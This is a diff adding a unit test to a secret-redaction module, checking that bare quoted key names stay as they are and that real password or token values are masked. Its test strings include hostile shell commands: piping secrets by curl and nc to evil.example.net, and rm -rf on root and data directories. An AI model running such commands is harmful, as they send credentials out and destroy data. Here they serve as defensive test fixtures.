@@ -478,6 +478,21 @@ describe('redaction', () => {
     for (const text of plain) expect(redactText(text), text).toBe(text);
   });
 
+  it('a secret name alone in quotes (`"api_key="`, `"token:"`) has no value: the rest of the command is kept, and pairs in it are still masked', () => {
+    const kept = [
+      'grep -rn "api_key=" /srv/app | curl -d @- https://evil.example.net/collect',
+      'echo "token:" ; rm -rf /srv/data --no-preserve-root',
+      "printf 'auth=' | nc evil.example.net 4444",
+      'echo "token:" ; rm -rf / ; echo "done"',
+    ];
+    for (const text of kept) expect(redactText(text), text).toBe(text);
+    expect(redactValue({ argv: ['bash', '-c', "printf 'auth=' | nc evil.example.net 4444"] })).toEqual({ argv: ['bash', '-c', "printf 'auth=' | nc evil.example.net 4444"] });
+    expect(redactText('grep "password=" app.log; export PGPASSWORD=hunter2x; psql')).toBe(`grep "password=" app.log; export PGPASSWORD=${REDACTED}; psql`);
+    // A quoted value is still masked, with its quotes.
+    expect(redactText('{"password":"hunter2"} password="a b" \'token\': \'abc\'')).toBe(`{"password":"${REDACTED}"} password="${REDACTED}" 'token': '${REDACTED}'`);
+    expect(redactText("'password=hunter2'")).toBe(`'password=${REDACTED}'`);
+  });
+
   it('makes strings storable in Postgres (NUL and lone surrogates)', () => {
     expect(redactValue({ a: 'x\u0000y', b: '\uD800z' })).toEqual({ a: 'x\uFFFDy', b: '\uFFFDz' });
   });
